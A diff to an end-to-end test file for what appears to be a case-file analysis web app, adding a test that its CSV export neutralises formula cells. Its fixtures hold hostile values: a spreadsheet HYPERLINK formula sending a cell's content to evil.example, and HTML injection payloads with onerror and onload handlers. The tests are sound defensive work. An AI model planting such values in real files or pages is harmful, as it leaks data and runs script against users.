@@ -46,6 +46,8 @@ HOSTILE = "<img src=x onerror=alert(1)>"
 HOSTILE_GROUP = '"><svg onload=alert(2)>'
 #: a name holding bare addresses, which markdown would turn into links of its own
 LINKED = "Bas http://evil.example/x www.evil.example bas@evil.example"
+#: a name a spreadsheet would run as a formula, listed by the vulnerable-persons query
+FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"open")'
 #: A Belgian case file whose plantation is run by the hostile person, who calls a Dutch grower
 #: of the demo: the plantation gets a Dutch-link evidence path through the hostile name.
 HOSTILE_DOSSIER = f"""
@@ -60,6 +62,8 @@ entities:
       country: BE}}}}
   - {{type: Person, id: person-jeroen-vos, properties: {{name: Jeroen Vos}}}}
   - {{type: Person, id: person-be-linked, properties: {{name: "{LINKED}"}}}}
+  - {{type: Person, id: person-be-formula, properties: {{name: '{FORMULA}', vulnerable: true,
+      residence_country: BE}}}}
 links:
   - {{type: CONTACT, source: person-be-linked, target: person-be-hostile,
       properties: {{kind: call, count: 2}}, date: 2023-04-12, grading: B2}}
@@ -324,3 +328,20 @@ def test_tables_offer_no_download_of_their_own(page) -> None:
     assert page.get_by_role("button", name="Download as CSV").count() == 0
     assert page.locator("[data-testid='stElementToolbar'] button").filter(
         has_text="Download").count() == 0
+
+
+def test_the_export_step_neutralises_formula_cells(page) -> None:
+    """The one way out for a query's rows: Export (logged) then Download CSV, whose cells a
+    spreadsheet would run as formulas come out as text."""
+    import csv
+
+    open_view(page, "?query=vulnerable-persons")
+    page.get_by_role("button", name="Run").click()
+    page.get_by_role("button", name="Export (CSV, GraphML)").click()
+    with page.expect_download(timeout=WAIT_MS) as download:
+        page.get_by_role("button", name="Download CSV").click()
+    text = Path(download.value.path()).read_text(encoding="utf-8-sig")
+    rows = list(csv.DictReader(text.splitlines()))
+    names = {row["person"]: row["name"] for row in rows}
+    assert names["person-be-formula"] == "'" + FORMULA
+    assert not [cell for row in rows for cell in row.values() if cell.startswith("=")]
